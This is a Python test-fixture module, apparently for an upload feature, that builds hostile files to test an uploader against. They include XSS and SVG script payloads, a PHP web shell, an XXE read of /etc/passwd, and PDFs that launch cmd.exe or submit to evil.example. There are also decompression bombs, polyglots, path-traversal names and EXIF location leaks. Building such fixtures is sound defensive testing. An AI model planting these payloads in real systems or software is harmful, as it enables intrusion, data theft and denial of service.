"""Files that want to harm whoever opens them, made here: (name, what it is, bytes)."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from profiles.tests.files import pdf, picture

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
POSITION = 0x8825  # the EXIF tag under which a camera writes where it was


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *, depth: int = 8, color: int = 2, rows: bytes = b"") -> bytes:
    """A PNG whose header says any size; its pixels are zeros that pack to almost nothing."""
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    body = rows or zlib.compress(b"\0" * min(width * 3 + 1, 10**6) * min(height, 200))
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def with_position(form: str) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SECRETCAM"
    exif[POSITION] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
    return picture(form, exif=exif)


def with_text(key: str, text: str) -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text(key, text)
    notes.add_itxt(key + "2", text)
    return picture(pnginfo=notes)


def script_pdf(action: bytes, *, extra: bytes = b"") -> bytes:
    """A one-page PDF that wants to act when it is opened."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << " + action + b" >> " + extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << %s >> >> >>" % action,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n%d\n%%%%EOF" % len(out)
    return out + b"xref\n0 4\n0000000000 65535 f \n" + table + end


def page_of(size: bytes, count: int = 1) -> bytes:
    whole = script_pdf(b"/S /GoTo").replace(b"[0 0 200 200]", size)
    return whole.replace(b"/Count 1", b"/Count %d" % count)


def bomb_pdf() -> bytes:
    """A stream that unpacks to 2 GB."""
    packed = zlib.compress(zlib.compress(b"\0" * 50_000_000, 9), 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (
        len(packed), packed,
    )  # fmt: skip
    return script_pdf(b"/S /GoTo", extra=b"/Metadata 4 0 R").replace(
        b"xref\n0 4", b"4 0 obj\n" + stream + b"\nendobj\nxref\n0 4"
    )


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def ifd_loop() -> bytes:
    """A TIFF block whose next directory is itself, inside a JPEG."""
    loop = b"Exif\0\0II*\0\x08\0\0\0\0\0\x08\0\0\0"
    body = picture("JPEG")
    return body[:2] + b"\xff\xe1" + struct.pack(">H", len(loop) + 2) + loop + body[2:]


# Those that ask for more memory or time than they are worth.
BOMBS = (
    "bomb.zip", "pixels.png", "wide.png", "tall.png", "bits.png", "flood.png", "pages.pdf",
    "count.pdf", "huge-page.pdf", "thin.pdf", "stream.pdf", "loop.jpg",
)  # fmt: skip

JAVASCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"
LAUNCH = b"/S /Launch /F (cmd.exe)"
URI = b"/S /URI /URI (http://evil.example/)"
SUBMIT = b"/S /SubmitForm /F (http://evil.example/)"
EMBEDDED = b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec >>] >> >>"
XFA = b"/AcroForm << /XFA (<script>app.alert(1)</script>) >>"

HOSTILE: list[tuple[str, bytes]] = [
    # Not pictures at all, whatever they are called.
    ("page.html", HTML), ("page.png", HTML), ("drawing.svg", SVG), ("drawing.jpg", SVG),
    ("drawing.svgz", zlib.compress(SVG)), ("x.xml", b'<?xml version="1.0"?>' + SVG),
    ("entities.svg", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
    ("script.js", b"alert(1)"), ("shell.php", b"<?php system($_GET['c']); ?>"),
    ("run.exe", b"MZ\x90\0" + b"\0" * 400), ("lib.so", b"\x7fELF" + b"\0" * 400),
    ("macro.docx", zipped("word/vbaProject.bin", b"x")), ("a.jar", zipped("Main.class", b"x")),
    ("bomb.zip", zipped("bomb", b"\0" * 30_000_000)), ("up.zip", zipped("../../up.png", b"x")),
    ("empty.pdf", b""), ("nul.png", b"\0" * 1000), ("a.gif", b"GIF89a" + b"\0" * 100),
    ("a.bmp", picture("BMP")), ("a.tif", picture("TIFF")), ("a.ico", picture("ICO")),
    ("a.ps", b"%!PS\n(/etc/passwd) (r) file"), ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    ("a.mvg", b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/'"),
    # Two things in one: a picture that is also something else.
    ("tail.png", picture() + HTML), ("tail.jpg", picture("JPEG") + HTML),
    ("tail.pdf", pdf() + HTML), ("zip-tail.png", picture() + zipped("a.js", b"alert(1)")),
    ("php-tail.jpg", picture("JPEG") + b"<?php system('id'); ?>"),
    ("html-text.png", with_text("Comment", SCRIPT.decode())),
    ("comment.jpg", picture("JPEG", comment=SCRIPT)),
    ("png-pdf.png", picture() + pdf()), ("late.pdf", b"GIF89a" + b"\n" * 600 + pdf()),
    ("gif-js.gif", b"GIF89a/*" + b"\0" * 60 + b"*/=1;alert(1)"),
    # Where it was taken.
    ("gps.jpg", with_position("JPEG")), ("gps.png", with_position("PNG")),
    ("xmp.png", with_text("XML:com.adobe.xmp", "<exif:GPSLatitude>SECRETCAM</exif:GPSLatitude>")),
    ("icc.jpg", picture("JPEG", icc_profile=b"SECRETCAM" * 400)),
    # Bombs.
    ("pixels.png", png_of(60_000, 60_000)), ("wide.png", png_of(2_000_000_000, 1)),
    ("tall.png", png_of(1, 2_000_000_000)), ("bits.png", png_of(20_000, 20_000, depth=16)),
    ("flood.png", png_of(6000, 6000, rows=zlib.compress(b"\0" * 18001 * 6000, 9))),
    ("zero.png", png_of(0, 0)), ("header.png", picture()[:40]), ("half.jpg", picture("JPEG")[:300]),
    ("pages.pdf", pdf(pages=400)), ("count.pdf", page_of(b"[0 0 200 200]", count=10**9)),
    ("huge-page.pdf", page_of(b"[0 0 1e9 1e9]")), ("no-page.pdf", page_of(b"[0 0 0 0]")),
    ("thin.pdf", page_of(b"[0 0 0.0001 14000]")), ("stream.pdf", bomb_pdf()),
    ("loop.jpg", ifd_loop()),
    # PDFs that act.
    ("js.pdf", script_pdf(JAVASCRIPT)), ("launch.pdf", script_pdf(LAUNCH)),
    ("uri.pdf", script_pdf(URI)), ("submit.pdf", script_pdf(SUBMIT)),
    ("embedded.pdf", script_pdf(JAVASCRIPT, extra=EMBEDDED)),
    ("xfa.pdf", script_pdf(JAVASCRIPT, extra=XFA)),
    # Names that lead elsewhere; the bytes are honest.
    ("../../../etc/cron.d/x.png", picture()), ("..\\..\\x.png", picture()),
    ("/etc/passwd", picture()), ("x.png\0.html", picture()),
    ("<img src=x onerror=alert(1)>", picture()),
]  # fmt: skip


def honest() -> list[tuple[str, bytes]]:
    """Forty files as people hand them in: sizes, kinds, colours, turned and transparent."""
    files = [(f"{n}.png", picture(size=(200 + 97 * n, 300 + 41 * n))) for n in range(10)]
    files += [(f"{n}.jpg", picture("JPEG", size=(300 + 211 * n, 900))) for n in range(10)]
    files += [(f"{n}.pdf", pdf(pages=n)) for n in range(1, 13)]
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        out = io.BytesIO()
        Image.new(mode, (640, 480)).save(out, "PNG")
        files.append((f"{mode}.png", out.getvalue()))
    out = io.BytesIO()
    Image.new("CMYK", (640, 480)).save(out, "JPEG")
    files.append(("cmyk.jpg", out.getvalue()))
    files.append(("progressive.jpg", picture("JPEG", size=(1200, 900), progressive=True)))
    return files
